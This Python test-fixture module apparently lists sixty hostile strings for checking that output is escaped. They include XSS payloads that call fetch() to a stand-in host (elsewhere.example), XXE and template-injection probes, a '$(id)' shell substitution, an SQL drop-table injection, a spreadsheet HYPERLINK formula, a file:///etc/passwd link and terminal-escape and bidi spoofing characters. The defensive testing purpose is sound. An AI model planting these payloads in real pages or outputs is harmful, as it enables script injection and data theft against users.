"""Sixty texts that a model, a program or a service could have written to do something in the browser of who reads them.

What would run sets the title, and sends a request to a server elsewhere. Each text carries its number, so that a test
can tell whether it was shown.
"""

RUN = "document.title=window.owned='owned';fetch('//elsewhere.example/x')"
AWAY = "//elsewhere.example/x"
QUOTED = RUN.replace("'", "&#39;")

_TEXTS = (
    # Elements that run or load something.
    f"<script>{RUN}</script>",
    f"</pre></td></table><script>{RUN}</script>",
    f"</style></title></textarea><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<SCRIPT/SRC={AWAY}></SCRIPT>",
    f'<script src="{AWAY}" integrity="" nonce=""></script>',
    f"<script type=module>import '{AWAY}'</script>",
    f"<img src=x onerror={QUOTED}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{QUOTED}'>",
    f'<img src="{AWAY}">',
    f'<img srcset="{AWAY} 2x" src="{AWAY}">',
    f'<svg onload="{RUN}"/>',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><image href="{AWAY}"/></svg>',
    f'</svg><svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><use href="{AWAY}#x"/></svg>',
    f'<math><mtext></form><form><mglyph><style></math><img src=x onerror="{RUN}">',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<object data="{AWAY}"></object><embed src="{AWAY}">',
    f'<video autoplay onerror="{RUN}"><source src="{AWAY}"></video>',
    f'<audio src="{AWAY}" onerror="{RUN}"></audio>',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<input autofocus onfocus="{RUN}">',
    f'<body onload="{RUN}" onpageshow="{RUN}">',
    f'<marquee onstart="{RUN}">x</marquee>',
    f'<x id=x tabindex=1 onfocusin="{RUN}" style="animation:a 1s" onanimationstart="{RUN}">',
    # Elements that lead elsewhere or change the page around them.
    f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    f'<base href="{AWAY}">',
    f'<link rel=stylesheet href="{AWAY}"><link rel=prefetch href="{AWAY}">',
    f"<style>@import '{AWAY}'; body {{ display: none }}</style>",
    f'<a href="javascript:{RUN}" autofocus>x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    f'<form action="{AWAY}"><button formaction="javascript:{RUN}">Show</button></form>',
    '<main id="content"><span id="live">live</span></main>',
    '<canvas id="tree" data-source="//elsewhere.example/x"></canvas>',
    f"<template><script>{RUN}</script></template><noscript><img src=x onerror={QUOTED}></noscript>",
    "<plaintext>",
    "<!--><script>document.title='owned'</script><!-- ",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml-stylesheet href='{AWAY}'?><!DOCTYPE x [<!ENTITY y SYSTEM '{AWAY}'>]>&y;",
    "</body></html><h1>The end</h1>",
    # What breaks out of an attribute, a string, a template or a line.
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' style='background:url({AWAY})' onclick='{QUOTED}",
    f"`${{{RUN}}}`",
    f"');{RUN};//",
    f'"}};{RUN};{{"a":"',
    f"{{{{constructor.constructor('{QUOTED}')()}}}}",
    "{% for x in () %} {{ 7*7 }} %(x)s %n {0.__class__} $HOME $(id)",
    f"&lt;script&gt;{QUOTED}&lt;/script&gt; &#60;img&#62; &amp;lt;",
    f"javascript:{RUN}",
    '=HYPERLINK("http://elsewhere.example/x","x")',
    "'; drop table runs; --",
    "__proto__ constructor toString hasOwnProperty",
    # Characters that a screen obeys.
    "\x1b[31m\x1b]0;owned\x07\x1b[2J\x9b1m\b\b\b\r",
    "\u202egnp.exe\u2066 \u200f\u061c\u202d",
    "a\u0301\u0489\u20dd" + "\u0301" * 40 + "\u200b\u200d\ufeff\u2028\u2029\u0085",
    "W" * 3_000,
    "\ud7ff\ufffd\uffff\U0010ffff \U000e0041 [bold]x[/bold] [link=file:///etc/passwd]x[/link]",
)

HOSTILE_TEXTS = tuple(f"hostile-{number:02} {text} end-{number:02}" for number, text in enumerate(_TEXTS))
